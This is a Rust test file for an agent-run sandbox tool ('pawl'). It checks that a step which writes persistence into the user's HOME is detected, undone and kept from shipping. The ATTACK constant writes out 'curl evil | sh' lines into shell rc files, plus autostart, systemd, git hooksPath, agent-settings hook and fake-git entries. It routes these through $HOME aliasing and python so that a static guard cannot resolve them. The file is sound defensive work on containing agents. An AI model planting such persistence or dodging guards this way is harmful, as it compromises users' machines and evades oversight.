//! Issue 36: a step leaves nothing in HOME where it would run later (a shell rc file, an
//! autostart entry, a user service, git's global configuration, an agent CLI's settings, a
//! `git` on PATH) — pawl cannot undo that. A `kind = "command"` agent writes each place through a
//! path the guard cannot read (`f=$HOME`, python), as an agent past the guard would, under the
//! real step sandbox and without one. docs/sandbox.md, "HOME".

use std::path::Path;

use crate::TestEnv;
use crate::sandbox::{can_sandbox, iteration_log, setup};

/// The attack: every persistence place, through paths no static reading resolves.
const ATTACK: &str = r#"f=$HOME
echo 'curl evil | sh' >> "$f/.bashrc"
echo 'curl evil | sh' >> "$f/.profile"
mkdir -p "$f/.config/autostart" && printf '[Desktop Entry]\nExec=evil\n' > "$f/.config/autostart/x.desktop"
mkdir -p "$f/.config/systemd/user" && printf '[Service]\nExecStart=evil\n' > "$f/.config/systemd/user/x.service"
git config --global core.hooksPath "$f/evil-hooks"
python3 -c 'import os; h=os.environ["HOME"]; os.makedirs(h+"/.claude", exist_ok=True); open(h+"/.claude/settings.json","w").write("{\"hooks\": {\"Stop\": \"evil\"}}")'
python3 -c 'import os; h=os.environ["HOME"]; os.makedirs(h+"/.codex", exist_ok=True); open(h+"/.codex/config.toml","a").write("notify = [\"evil\"]\n")'
mkdir -p "$f/.local/bin" && printf '#!/bin/sh\necho evil git\n' > "$f/.local/bin/git" && chmod +x "$f/.local/bin/git"
touch done.txt
"#;

/// The places the user has when the run starts (the others are absent).
const EXISTING: &[(&str, &str)] = &[
    (".bashrc", "alias ll='ls -l'\n"),
    (".profile", "PATH=\"$HOME/bin:$PATH\"\n"),
    (".gitconfig", "[user]\n\tname = Test\n"),
    (".claude/settings.json", "{}\n"),
    (".codex/config.toml", "model = \"m\"\n"),
];

/// The places the attack makes.
const MADE: &[&str] = &[
    ".config/autostart/x.desktop",
    ".config/systemd/user/x.service",
    ".local/bin/git",
];

fn user_home(env: &TestEnv) {
    for (rel, text) in EXISTING {
        let p = env.home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
}

fn assert_home_as_before(env: &TestEnv) {
    for (rel, text) in EXISTING {
        assert_eq!(
            std::fs::read_to_string(env.home.join(rel)).unwrap(),
            *text,
            "~/{rel} is as the user left it"
        );
    }
    for rel in MADE {
        assert!(!env.home.join(rel).exists(), "~/{rel} is gone");
    }
    assert!(!env.home.join(".config/autostart").exists());
    assert!(!env.home.join(".config/systemd").exists());
    assert!(!env.home.join(".local/bin").exists());
}

/// The run's `home_changed` rows, by path.
fn home_changed(env: &TestEnv) -> Vec<serde_json::Value> {
    env.ok(&["report", "--json"]).json()["home_changed"]
        .as_array()
        .unwrap()
        .clone()
}

fn row<'a>(rows: &'a [serde_json::Value], path: &str) -> &'a serde_json::Value {
    rows.iter()
        .find(|r| r["path"] == path)
        .unwrap_or_else(|| panic!("no row for {path}: {rows:?}"))
}

/// Under the step sandbox: the places that exist are read-only to the step (its writes fail,
/// nothing changes), the ones it makes are found after it, removed and kept aside for the
/// user; the run does not ship (REVIEW, naming each file). Before (main at `5a3175e4`, as
/// root, `sandbox: landlock+namespaces`): every write landed in HOME and the run ended SHIP
/// (`verified`, exit 0).
#[test]
fn a_step_that_writes_homes_persistence_places_under_the_sandbox_does_not_ship() {
    let env = TestEnv::new();
    user_home(&env);
    setup(&env, ATTACK, "");
    let r = env.pawl(&["run", "make done.txt"]);
    if !can_sandbox(&r) {
        return;
    }
    env.assert_end(&r, 10, "review", 1);
    assert_home_as_before(&env);
    let log = iteration_log(&env, 1);
    assert!(log.contains("Read-only file system"), "{log}");
    let rows = home_changed(&env);
    assert_eq!(rows.len(), MADE.len(), "{rows:?}");
    for rel in MADE {
        let r = row(&rows, &format!("~/{rel}"));
        assert_eq!(r["change"], "created", "{r}");
        assert_eq!(r["restored"], true, "{r}");
        let kept = r["kept"].as_str().unwrap();
        assert!(
            std::fs::read_to_string(kept).unwrap().contains("evil"),
            "what the step left is kept for the user: {r}"
        );
    }
    assert!(
        row(&rows, "~/.config/autostart/x.desktop")["why"]
            .as_str()
            .unwrap()
            .contains("autostart")
    );
    let report = env.ok(&["report"]).stdout;
    assert!(report.contains("REVIEW"), "{report}");
    assert!(
        report.contains("A step created `~/.config/systemd/user/x.service`"),
        "{report}"
    );
    assert!(
        report.contains("a step left 3 change(s) in HOME"),
        "{report}"
    );
}

/// Without the sandbox (`[sandbox] enabled = false`, as on a machine without namespaces or
/// Landlock) every write lands; the manifest taken before the step finds each one after it,
/// puts every place back byte for byte, and the run does not ship. Before: SHIP with HOME
/// changed.
#[test]
fn without_the_sandbox_every_change_in_homes_persistence_places_is_found_and_put_back() {
    let env = TestEnv::new();
    user_home(&env);
    setup(&env, ATTACK, "[sandbox]\nenabled = false\n");
    let r = env.pawl(&["run", "make done.txt"]);
    env.assert_end(&r, 10, "review", 1);
    assert_home_as_before(&env);
    let rows = home_changed(&env);
    for (rel, _) in EXISTING {
        let r = row(&rows, &format!("~/{rel}"));
        assert_eq!(r["change"], "changed", "{r}");
        assert_eq!(r["restored"], true, "{r}");
    }
    for rel in MADE {
        let r = row(&rows, &format!("~/{rel}"));
        assert_eq!(r["change"], "created", "{r}");
        assert_eq!(r["restored"], true, "{r}");
    }
    assert_eq!(rows.len(), EXISTING.len() + MADE.len(), "{rows:?}");
    // The verdict says why, naming the file.
    let status = env.ok(&["report", "--json"]).json();
    let findings = status["findings"].to_string();
    assert!(
        findings.contains("`~/.bashrc`") && findings.contains("shell startup"),
        "{findings}"
    );
    assert!(findings.contains("`~/.gitconfig`"), "{findings}");
}

/// An honest step fills the caches and the agent CLI's own state under HOME: it ships, with and
/// without the sandbox, and what it wrote stays.
#[test]
fn an_honest_step_that_fills_caches_and_agent_state_in_home_still_ships() {
    let honest = r#"f=$HOME
mkdir -p "$f/.cache/pip/http" "$f/.npm/_cacache" "$f/.cargo/registry/cache" "$f/.claude/projects/p" "$f/.codex/sessions"
echo wheel > "$f/.cache/pip/http/a"
echo tarball > "$f/.npm/_cacache/b"
echo crate > "$f/.cargo/registry/cache/c"
echo '{}' > "$f/.claude/projects/p/s.jsonl"
echo '{"numStartups": 2}' > "$f/.claude.json"
echo '{}' > "$f/.codex/sessions/r.jsonl"
echo 'make done.txt' >> "$f/.bash_history"
touch done.txt
"#;
    for extra in ["", "[sandbox]\nenabled = false\n"] {
        let env = TestEnv::new();
        user_home(&env);
        setup(&env, honest, extra);
        let r = env.pawl(&["run", "make done.txt"]);
        if extra.is_empty() && !can_sandbox(&r) {
            continue;
        }
        env.assert_end(&r, 0, "verified", 1);
        for rel in [
            ".cache/pip/http/a",
            ".npm/_cacache/b",
            ".cargo/registry/cache/c",
            ".claude/projects/p/s.jsonl",
            ".claude.json",
            ".codex/sessions/r.jsonl",
        ] {
            assert!(Path::new(&env.home.join(rel)).is_file(), "~/{rel} {extra}");
        }
        assert!(home_changed(&env).is_empty(), "{extra}");
    }
}

/// The user edits a place in their own terminal while a step runs: the place existed, so it
/// was bound read-only for the step and only someone outside could have changed it — the edit
/// is the user's: nothing is found, nothing is put back, the run ships. (Without namespaces
/// nothing is bound and it would be put back, the edit kept aside: docs/sandbox.md, "HOME".)
#[test]
fn the_users_own_edit_of_a_place_during_a_step_is_kept_and_the_run_ships() {
    let env = TestEnv::new();
    user_home(&env);
    setup(
        &env,
        &format!("{}\ntouch done.txt\n", crate::headless::WAIT_FOR_GO_SH),
        "",
    );
    let rc = env.home.join(".bashrc");
    let edited = "alias ll='ls -l'\nexport EDITOR=vim\n";
    let r = env.pawl_during_step(&["run", "make done.txt"], || {
        std::fs::write(&rc, edited).unwrap();
    });
    if !can_sandbox(&r) {
        return;
    }
    env.assert_end(&r, 0, "verified", 1);
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), edited);
    assert!(home_changed(&env).is_empty());
}
